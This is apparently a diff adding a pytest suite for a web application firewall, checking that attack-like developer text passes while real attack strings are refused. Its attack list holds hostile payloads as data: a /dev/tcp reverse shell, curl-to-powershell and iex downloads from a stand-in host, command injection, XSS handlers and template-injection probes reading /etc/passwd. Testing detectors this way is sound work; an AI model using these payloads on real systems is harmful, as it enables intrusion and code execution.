@@ -1,0 +1,137 @@
+"""WAF, developers' text (issue 11's false-positive classes: configuration
+files, manuals' option tables, template and script code pasted into a
+note) through the real edge (shipped config, bans off). Each look-alike
+is a grammar a shell, a browser or a template engine reads differently
+from the attack it resembles; the attack written in the same syntax is
+still refused by the rule that read the look-alike before.
+
+- an option named like a builtin, "--exec <cmd>", is no "exec" builtin
+  with a redirection (rce-shell-syntax);
+- "PowerShell" last in a sentence or as a quoted string is a name, not
+  the interpreter run (rce-windows);
+- "name = value", "CC ?= clang", "x == 2": an assignment or comparison,
+  not a command with "=" for its argument (rce-command);
+- "Then", "Else", "Do" after a line break open no compound command when
+  no "if"/"for"/"while" came before (a shell rejects them: rce-command);
+- "online = true" and "OnCalendar=*-*-*" run no script (xss-handler);
+- an arrow function given to a timer is the page's own code (xss-dom);
+- a filter by name ("{{ title|escape }}"), a block's close ("{{/if}}"),
+  Go's "{{ range .Items }}" and an extends/include of a relative template
+  name compute nothing (ssti).
+"""
+import urllib.parse
+import uuid
+
+import pytest
+import requests
+
+from wafkit import WafEdge, only_classes_config, waf_config
+
+CONF = waf_config()
+# the rule classes the attacks' rules belong to: an edge each, where only
+# that class runs (another class refusing first must not hide a miss)
+CLASSES = ("rce", "xss", "ssti")
+
+LOOKALIKES = [
+    "| `--exec <cmd>` | run a command for each file |",
+    "Use `--exec <file>` to pick the hook",
+    "Open a terminal in PowerShell",
+    '{"shell": "pwsh", "font": "Cascadia Code"}',
+    '"defaultProfile": "PowerShell",',
+    'python = "^3.11"',
+    "CC ?= clang\nCFLAGS += -O2",
+    "ls == 2",
+    'sync = true\nworkers = 4',
+    "Step 1: clone it.\nThen open `config.yml` and edit it.",
+    "Install the tools.\nElse use `make clean` first.",
+    "online = true",
+    "[Timer]\nOnCalendar=*-*-* 02:00:00\nPersistent=true",
+    "setTimeout(() => save(), 500);",
+    "const t = setInterval(() => tick(Date.now()), 1000);",
+    "{{ title|escape }}",
+    "{{#each posts}}<li>{{ title }}</li>{{/each}}",
+    "{{ items|length }} items",
+    '{% extends "layouts/app.html" %}',
+    "{% include 'partials/nav.html' %}",
+    "{{ range .Posts }}<h2>{{ .Title }}</h2>{{ end }}",
+]
+
+# (value, the rule that must report it)
+ATTACKS = [
+    ("exec 5<>/dev/tcp/10.0.0.1/4444", "rce-shell-syntax"),
+    ("; powershell -enc SQBFAFgA", "rce-command"),
+    ("curl http://h.example/x.ps1 | powershell", "rce-windows"),
+    ('"powershell" -c whoami', "rce-windows"),
+    ('x & powershell "iex(iwr http://h.example/x)"', "rce-command"),
+    ("; python -c 'import os'", "rce-command"),
+    ("x; ls = /etc", "rce-command"),
+    (";if true; then id; fi", "rce-command"),
+    ("x\nfor i in 1; do id; done", "rce-command"),
+    ('" onfocus=alert(1) autofocus="', "xss-handler"),
+    ("onerror=KCF", "xss-handler"),
+    ("x onload= ", "xss-handler"),
+    ("onmouseover = alert(1)", "xss-handler"),
+    ("setTimeout('alert(1)')", "xss-dom"),
+    ("setInterval((alert),1)", "xss-dom"),
+    ("{{ 7*7 }}", "ssti"),
+    ("{{ x|attr('__class__') }}", "ssti"),
+    ("{{ request|attr('application') }}", "ssti"),
+    ('{% include "../../etc/passwd" %}', "ssti"),
+    ('{{ range.constructor("return 1")() }}', "ssti"),
+    ("{% import os %}", "ssti"),
+]
+
+
+@pytest.fixture(scope="module")
+def edge(tmp_path_factory):
+    e = WafEdge(tmp_path_factory.mktemp("waf-devtext"), CONF).start()
+    yield e
+    e.stop()
+
+
+@pytest.fixture(scope="module")
+def class_edges(tmp_path_factory):
+    edges = {c: WafEdge(tmp_path_factory.mktemp("waf-devtext-" + c),
+                        only_classes_config(c)).start() for c in CLASSES}
+    yield edges
+    for e in edges.values():
+        e.stop()
+
+
+@pytest.fixture(autouse=True)
+def no_lua_errors(edge, class_edges):
+    yield
+    for e in (edge, *class_edges.values()):
+        bad = e.error_lines("error") + e.error_lines("crit")
+        assert not bad, "\n".join(bad)
+
+
+def send(edge, value, how):
+    rid = "devtext-" + uuid.uuid4().hex
+    if how == "note":
+        r = requests.post(edge.url + "/api/notes", json={"note": value},
+                          headers={"X-Request-ID": rid})
+    else:
+        r = requests.get(edge.url + "/api/search?q="
+                         + urllib.parse.quote(value, safe=""),
+                         headers={"X-Request-ID": rid})
+    return r.status_code, rid
+
+
+@pytest.mark.parametrize("how", ["note", "query"])
+@pytest.mark.parametrize("value", LOOKALIKES, ids=range(len(LOOKALIKES)))
+def test_developers_text_passes(edge, value, how):
+    status, rid = send(edge, value, how)
+    assert status != 403, (value, edge.audit_for(rid))
+
+
+@pytest.mark.parametrize("how", ["note", "query"])
+@pytest.mark.parametrize("value,rule", ATTACKS, ids=range(len(ATTACKS)))
+def test_the_same_syntax_as_an_attack_is_refused(edge, class_edges, value, rule, how):
+    status, _ = send(edge, value, how)
+    assert status == 403, value
+    alone = class_edges[rule.split("-")[0]]
+    status, rid = send(alone, value, how)
+    assert status == 403, (value, rule)
+    rules = [m["rule"] for m in alone.audit_for(rid)["matches"]]
+    assert rule in rules, (value, rules)
